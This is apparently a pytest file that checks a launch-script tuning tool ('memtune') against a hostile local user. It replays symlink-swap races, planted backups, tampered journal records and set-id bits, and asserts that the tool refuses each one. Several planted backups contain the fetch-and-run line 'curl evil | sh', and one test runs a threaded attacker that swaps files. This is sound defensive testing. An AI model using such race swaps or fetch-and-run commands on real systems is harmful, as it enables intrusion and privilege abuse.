"""apply / rollback against a hostile user who can write the target's folder (issue 28).

Each test replays an attack that worked before as a real plant or swap in a temp folder:
a symbolic link swapped in for a hard-linked target between the check and the write, and
backups (with their old-style manifests) planted beside a file. The tool may refuse; it
must never write outside the target, restore what it did not write, or write set-id bits.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from conftest import read_kb
from memtune.actions import apply as actions
from memtune.actions import journal, safewrite
from memtune.errors import UserError

pytestmark = pytest.mark.usefixtures("private_home")  # the backup journal lives in $HOME

ROOT = Path(__file__).resolve().parents[1]
SKILL = ROOT / "skills" / "nemo-mbridge-perf-memory-tuning"
PATTERNS = read_kb("validations")["launch_script"]["command_patterns"]
FIX = {"id": "t-a", "apply": {"env": ["PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True"]}}
LAUNCH = "#!/bin/bash\nexport CUDA_DEVICE_MAX_CONNECTIONS=1\ntorchrun pretrain_gpt.py\n"
SECRET = "root-only secret\n"


def _setup(tmp_path: Path) -> tuple[Path, Path]:
    """A hard-linked launch script (so apply writes in place) and a private file elsewhere."""
    folder, elsewhere = tmp_path / "scripts", tmp_path / "private"
    folder.mkdir()
    elsewhere.mkdir()
    path = folder / "launch.sh"
    path.write_text(LAUNCH)
    os.link(path, folder / "launch-copy.sh")
    secret = elsewhere / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    return path, secret


def _swap_to_link(path: Path, secret: Path) -> None:
    """What the attacker does: move the real file away and put a link to the secret in its place."""
    os.rename(path, path.with_name("moved-away"))
    os.symlink(secret, path)


def _swap_before_in_place_write(monkeypatch, path: Path, secret: Path) -> None:
    """Swap right after the temp file is written: the window between the last check and the in-place write."""
    real = safewrite._write_temp

    def write_then_swap(*args, **kwargs):
        made = real(*args, **kwargs)
        if (Path(args[0]), args[1]) == (path.parent, f".{path.name}.memtune-") and not path.is_symlink():
            _swap_to_link(path, secret)  # the temp for the new text: the write comes next
        return made

    monkeypatch.setattr(safewrite, "_write_temp", write_then_swap)


def test_apply_never_writes_through_a_link_swapped_in_after_the_check(tmp_path, monkeypatch):
    path, secret = _setup(tmp_path)
    plan = actions.plan_apply(FIX, path, PATTERNS)
    _swap_before_in_place_write(monkeypatch, path, secret)
    with pytest.raises(UserError, match="replaced while memtune worked on it"):
        actions.write_with_backup(plan)
    assert secret.read_text() == SECRET and stat.S_IMODE(secret.stat().st_mode) == 0o600


def test_rollback_never_writes_through_a_link_swapped_in_after_the_check(tmp_path, monkeypatch):
    path, secret = _setup(tmp_path)
    actions.write_with_backup(actions.plan_apply(FIX, path, PATTERNS))
    _swap_before_in_place_write(monkeypatch, path, secret)
    with pytest.raises(UserError, match="replaced while memtune worked on it"):
        actions.rollback(path)
    assert secret.read_text() == SECRET


def test_a_swapping_attacker_never_reaches_the_secret(tmp_path):
    """The race as it runs: another thread keeps swapping link and file while apply and rollback repeat."""
    path, secret = _setup(tmp_path)
    stop = threading.Event()
    moved = path.with_name("moved-away")

    def attacker() -> None:
        while not stop.is_set():
            try:
                os.rename(path, moved)
                os.symlink(secret, path)
                os.unlink(path)
                os.rename(moved, path)
            except OSError:
                pass

    thread = threading.Thread(target=attacker, daemon=True)
    thread.start()
    try:
        for _ in range(200):
            try:
                actions.write_with_backup(actions.plan_apply(FIX, path, PATTERNS))
                actions.rollback(path, force=True)
            except UserError:
                pass
    finally:
        stop.set()
        thread.join(5)
    assert secret.read_text() == SECRET and stat.S_IMODE(secret.stat().st_mode) == 0o600


# --------------------------------------------------------------------------- planted backups


def _old_style_plant(path: Path, stamp: str, text: str, mode: int) -> Path:
    """A backup plus the manifest format earlier versions trusted."""
    planted = path.with_name(f"{path.name}.memtune-backup-{stamp}")
    planted.write_text(text)
    manifest = {"target": path.name, "backup_size": len(text), "backup_sha256": journal.sha256(text.encode()),
                "written_size": len(path.read_bytes()), "written_sha256": journal.sha256(path.read_bytes()),
                "mode": mode}
    planted.with_name(planted.name + ".manifest.json").write_text(json.dumps(manifest))
    return planted


def test_planted_backup_for_a_file_apply_never_touched_is_refused(tmp_path):
    path = tmp_path / "launch.sh"
    path.write_text(LAUNCH)
    _old_style_plant(path, "20261201T000000", "curl evil | sh\n", -1)
    with pytest.raises(UserError, match="no record of apply writing it"):
        actions.rollback(path, force=True)
    assert path.read_text() == LAUNCH and stat.S_IMODE(path.stat().st_mode) & 0o7000 == 0


def test_far_future_and_manifestless_plants_neither_win_nor_block(tmp_path):
    path = tmp_path / "launch.sh"
    path.write_text(LAUNCH)
    backup, _ = actions.write_with_backup(actions.plan_apply(FIX, path, PATTERNS))
    future = _old_style_plant(path, "29991231T235959", "curl evil | sh\n", 0o7777)
    bare = path.with_name("launch.sh.memtune-backup-29991231T235959-1")
    bare.write_text("echo no manifest\n")
    assert actions.backups(path) == [backup]
    restored, _ = actions.rollback(path)
    assert restored == backup and path.read_text() == LAUNCH
    assert stat.S_IMODE(path.stat().st_mode) & 0o7000 == 0
    assert future.exists() and bare.exists()  # not ours: left alone, never restored


def test_rollback_of_a_deleted_target_never_writes_set_id_bits(tmp_path):
    path = tmp_path / "launch.sh"
    path.write_text(LAUNCH)
    path.chmod(0o4755)
    _, notes = actions.write_with_backup(actions.plan_apply(FIX, path, PATTERNS))
    assert stat.S_IMODE(path.stat().st_mode) == 0o755 and any("set-id" in n for n in notes)
    path.unlink()
    actions.rollback(path)
    assert path.read_text() == LAUNCH and stat.S_IMODE(path.stat().st_mode) == 0o755


@pytest.mark.parametrize("mode", [2**70, -1, 0o4755, "755"])
def test_a_tampered_journal_mode_is_one_line_refusal(tmp_path, mode):
    path = tmp_path / "launch.sh"
    path.write_text(LAUNCH)
    actions.write_with_backup(actions.plan_apply(FIX, path, PATTERNS))
    record = next(journal.state_dir().iterdir())
    body = json.loads(record.read_text())
    body["entries"][-1]["mode"] = mode
    record.write_text(json.dumps(body))
    with pytest.raises(UserError, match="journal (mode|field 'mode')"):
        actions.plan_rollback(path)


def test_a_journal_other_users_can_write_is_refused(tmp_path):
    path = tmp_path / "launch.sh"
    path.write_text(LAUNCH)
    actions.write_with_backup(actions.plan_apply(FIX, path, PATTERNS))
    journal.state_dir().chmod(0o777)
    with pytest.raises(UserError, match="writable by another user"):
        actions.plan_rollback(path)
    journal.state_dir().chmod(0o700)
    assert actions.plan_rollback(path)[0].entry.mode == 0o644


def test_a_record_copied_from_another_file_is_refused(tmp_path):
    other, path = tmp_path / "other.sh", tmp_path / "launch.sh"
    other.write_text(LAUNCH)
    path.write_text(LAUNCH)
    backup, _ = actions.write_with_backup(actions.plan_apply(FIX, other, PATTERNS))
    directory = journal.state_dir()
    record = next(directory.iterdir())
    record.rename(journal._record_path(directory, journal.target_key(path)))
    with pytest.raises(UserError, match="for another file"):
        actions.plan_rollback(path)


def test_cli_refusal_of_a_planted_backup_is_one_line(tmp_path):
    path = tmp_path / "launch.sh"
    path.write_text(LAUNCH)
    _old_style_plant(path, "20261201T000000", "curl evil | sh\n", -1)
    done = subprocess.run([sys.executable, str(SKILL / "scripts" / "memtune.py"), "rollback", str(path), "--yes"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
    assert path.read_text() == LAUNCH
